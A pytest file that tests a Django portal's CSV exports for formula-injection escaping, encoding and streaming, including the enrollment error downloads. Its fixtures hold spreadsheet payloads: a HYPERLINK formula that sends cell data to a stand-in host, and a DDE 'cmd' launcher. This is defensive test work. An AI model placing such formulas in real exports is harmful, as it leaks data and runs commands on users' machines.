"""The one CSV writer (``portal.exports``): formula injection, encoding, streaming — and
the enrollment exports that echo what users typed (issue 10, point 8)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from enrollment import batch
from portal import exports
from portal.choices import Role
from tests.factories import make_device_type, make_gateway, make_member, make_organization

# What a spreadsheet would run, each in the column it can reach: no spaces in a serial.
SERIAL = '=HYPERLINK("http://x.example/?"&A1)'
GATEWAY = "@SUM(1+1)*cmd|'/C calc'!A0"
NAME = "+1 lamp"
LOCATION = "-2 floor"


def test_dangerous_leading_characters_get_a_quote_and_come_back():
    for value in ("=1+2", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "''", "'-"):
        escaped = exports.escape(value)
        assert escaped == "'" + value
        assert exports.unescape(escaped) == value
    for value in ("plain", "a=b", "'s-Hertogenbosch", "'", "", "1-2"):
        assert exports.escape(value) == value
        assert exports.unescape(value) == value
    assert exports.escape(-5) == -5 and exports.escape(None) is None  # numbers are numbers


def test_text_has_a_bom_crlf_and_escaped_header_and_cells():
    body = exports.text(["=a", "b"], [["=1", 2], ["x,y", None]])
    assert body == "\ufeff'=a,b\r\n'=1,2\r\n\"x,y\",\r\n"


def test_lines_stream_in_chunks(monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_ROWS", 2)
    pieces = list(exports.lines(["n"], ([n] for n in range(5))))
    assert pieces == ["\ufeffn\r\n", "0\r\n1\r\n", "2\r\n3\r\n", "4\r\n"]


def rows_of(body: str) -> list[list[str]]:
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


# -- the enrollment exports ------------------------------------------------------------


@pytest.fixture
def world(db):
    org = make_organization()
    make_device_type("Sensor")
    make_gateway(org, uid="gw-a")
    return org


LISTING = "serial,key,gateway,name,location\n" + ",".join(
    [f'"{SERIAL.replace(chr(34), chr(34) * 2)}"', "abcd", GATEWAY, NAME, LOCATION]
)


def assert_escaped(rows):
    header, row = rows[0], rows[1]
    assert header[:3] == ["row", "reason", "serial"]
    cells = dict(zip(header, row, strict=True))
    assert cells["serial"] == "'" + SERIAL
    assert cells["gateway"] == "'" + GATEWAY
    assert cells["name"] == "'" + NAME
    assert cells["location"] == "'" + LOCATION
    assert cells["key"] == ""


def test_refused_rows_download_of_a_preview_escapes_formulas(world, client):
    client.force_login(make_member(world, [Role.ADMINISTRATOR]))
    data = {
        "file": SimpleUploadedFile("devices.csv", LISTING.encode()),
        "device_type": make_device_type("Other").pk,
    }
    response = client.post(reverse("enrollment:batch-new"), data)
    assert response.status_code == 200 and response.context["invalid_count"] == 1
    url = reverse("enrollment:batch-errors", args=[response.context["token"]])

    preview = client.get(url)
    assert preview["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-cache" in preview["Cache-Control"]
    assert_escaped(rows_of(preview.getvalue().decode()))


def test_committed_batch_download_escapes_formulas(world, client):
    client.force_login(make_member(world, [Role.ADMINISTRATOR]))
    listing = LISTING + "\nSN-OK,abcd,gw-a,Fine,Hall\n"
    data = {
        "file": SimpleUploadedFile("devices.csv", listing.encode()),
        "device_type": make_device_type("Other").pk,
    }
    token = client.post(reverse("enrollment:batch-new"), data).context["token"]
    assert client.post(reverse("enrollment:batch-commit"), {"token": token}).status_code == 200
    download = client.get(reverse("enrollment:batch-errors", args=[token]))
    assert_escaped(rows_of(download.getvalue().decode()))


def test_enroll_import_errors_file_escapes_formulas(world, tmp_path):
    listing = tmp_path / "devices.csv"
    listing.write_text(LISTING + "\n")
    args = [str(listing), "--organization", world.slug, "--type", "Sensor", "--dry-run"]
    call_command("enroll_import", *args, stdout=io.StringIO(), stderr=io.StringIO())
    errors = (tmp_path / "devices.csv.errors.csv").read_text(encoding="utf-8")
    assert_escaped(rows_of(errors))


def test_the_errors_file_imports_back_as_it_was_written(world):
    checked = batch.check(world, batch.parse(LISTING))
    body = batch.errors_csv(checked.invalid)
    assert "'=HYPERLINK" in body
    (row,) = batch.parse(body.encode("utf-8")).rows
    assert row.values["serial"] == SERIAL
    assert row.values["gateway"] == GATEWAY
    assert (row.values["name"], row.values["location"]) == (NAME, LOCATION)
